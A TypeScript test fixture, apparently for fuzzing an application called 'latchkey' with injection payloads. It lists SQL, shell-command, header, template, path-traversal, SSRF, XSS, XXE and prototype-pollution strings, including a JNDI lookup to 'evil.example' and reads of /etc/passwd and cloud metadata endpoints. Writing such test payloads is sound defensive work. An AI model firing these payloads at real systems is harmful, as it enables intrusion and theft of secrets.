/** Row that SQL injections try to read, change or drop. */
export const CANARY_TABLE = 'injection_canary'
/** Prefix of the files that injected commands would create. */
export const COMMAND_MARK = 'latchkey-injected'
/** Hosts that no request may lead to. */
export const HOSTILE_HOSTS = [
  'evil.example',
  '127.0.0.1',
  '169.254.169.254',
  '0.0.0.0',
  '10.0.0.7',
  '[::1]',
  '[::ffff:169.254.169.254]',
  'localhost',
  'metadata.google.internal',
  '2130706433',
  '0x7f.1',
  '017700000001',
] as const
/** 1237 × 7331, which only an evaluated template prints. */
export const EVALUATED = String(1237 * 7331)

const QUOTES = ["'", "''", '"', '`', "\\'", '%27', '’', "')", "'))", '$$', "'||'", "E'\\''"]
const STATEMENTS = [
  `; drop table ${CANARY_TABLE}; --`,
  `; update ${CANARY_TABLE} set touched = true; --`,
  `; delete from ${CANARY_TABLE}; --`,
  `; insert into ${CANARY_TABLE} values ('more', true); --`,
  ' or 1=1 --',
  ' or true limit 1 --',
  ' union select secret, null from injection_canary --',
  ' and (select pg_sleep(10)) is null --',
  `; copy ${CANARY_TABLE} to program 'touch /tmp/${COMMAND_MARK}-copy'; --`,
]
const SQL = [
  ...QUOTES,
  ...QUOTES.flatMap((quote) => STATEMENTS.map((statement) => `x${quote}${statement}`)),
  '1; select pg_sleep(10)',
  '1 or 1=1',
  'null',
  '-1',
  '%',
  '_',
  '%%%',
  '* from users',
  '/*',
  '--',
  '#',
  "1' order by 99 --",
  '{"$ne": null}',
  '[$ne]=1',
]

const LINE_BREAKS = ['\r\n', '\n', '\r', '%0d%0a', '\u2028', '\u0085', '\\r\\n', '\u560d\u560a']
const HEADERS = LINE_BREAKS.flatMap((end) => [
  `x${end}X-Injected: 1`,
  `x${end}Set-Cookie: injected=1`,
  `x${end}${end}<script>injected</script>`,
  `ada@example.com${end}Bcc: eve@evil.example`,
  `ada@example.com${end}Subject: injected`,
  `+15555550100${end}To: +15555550199`,
])

const PRODUCT = '1237*7331'
const TEMPLATES = [
  `{{${PRODUCT}}}`,
  `\${${PRODUCT}}`,
  `#{${PRODUCT}}`,
  `<%= ${PRODUCT} %>`,
  `*{${PRODUCT}}`,
  `@(${PRODUCT})`,
  `{${PRODUCT}}`,
  `[[${PRODUCT}]]`,
  `{{constructor.constructor('return ${PRODUCT}')()}}`,
  `\${jndi:ldap://evil.example/${PRODUCT}}`,
  `';return ${PRODUCT};'`,
]

const COMMANDS = [';', '|', '&&', '||', '\n', '`', '$(', '"; '].map(
  (joint, at) => `x${joint} touch /tmp/${COMMAND_MARK}-${at} ${joint === '$(' ? ')' : joint}`,
)

const UPWARD = ['../', '..\\', '%2e%2e%2f', '..%2f', '%252e%252e%252f', '....//', '..%c0%af', '/']
const PATHS = UPWARD.flatMap((step) => [
  `${step.repeat(8)}etc/passwd`,
  `${step.repeat(4)}proc/self/environ`,
  `x/${step.repeat(6)}etc/passwd%00.png`,
])

const SCHEMES = ['https://', 'http://', 'gopher://', '//']
const ADDRESSES = HOSTILE_HOSTS.flatMap((host) =>
  SCHEMES.map((scheme) => `${scheme}${host}/latest/meta-data`),
).concat('file:///etc/passwd', 'https://app.example.com@evil.example/', 'dict://localhost:11211/')

const PAGES = [
  '<script>injected</script>',
  '"><img src=x onerror=injected>',
  "javascript:injected//'",
  '<svg/onload=injected>',
  '<!--#exec cmd="id"-->',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
]

/** Objects in place of a string. The text is the body's, because a literal `__proto__` sets the prototype. */
const PROTOTYPES = [
  '{"__proto__":{"polluted":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"prototype":{"polluted":true}}',
  '[{"__proto__":{"polluted":true}}]',
  '{"a":{"__proto__":{"polluted":true}}}',
  '{"toString":null,"valueOf":null}',
  '{"then":"function"}',
  '{"length":1e9}',
  '"__proto__"',
  '"constructor.prototype.polluted"',
  '{"$where":"true","$gt":""}',
]

/** Each payload as JSON text, to be written in place of a string. */
export const INJECTIONS: readonly string[] = [
  ...[SQL, HEADERS, TEMPLATES, COMMANDS, PATHS, ADDRESSES, PAGES]
    .flat()
    .map((text) => JSON.stringify(text)),
  ...PROTOTYPES,
]
